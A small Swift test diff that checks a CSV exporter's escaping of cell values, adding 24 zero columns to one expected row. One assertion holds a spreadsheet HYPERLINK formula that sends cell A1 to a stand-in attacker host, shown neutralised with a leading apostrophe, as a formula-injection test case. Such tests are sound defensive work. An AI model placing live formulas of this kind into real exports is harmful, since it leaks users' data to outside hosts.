@@ -50,7 +50,7 @@ struct CSVCellTests {
         #expect(document.problems.isEmpty)
         let names = document.records.dropFirst().map { $0.fields[2] }
         #expect(names == ["Umeå", "'" + Self.hyperlink, "'-1", "'\tcmd"])
-        #expect(csv.contains("2026,2480,Umeå,true,10,3,1,2,1,1,0,0,0.3000,0,0,10,5,0\r\n"))
+        #expect(csv.contains("2026,2480,Umeå,true,10,3,1,2,1,1,0,0,0.3000,0,0,10,5,0," + Array(repeating: "0", count: 24).joined(separator: ",") + "\r\n"))
         #expect(csv.contains(#"2026,9997,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")",true,10,"#))
     }
 }
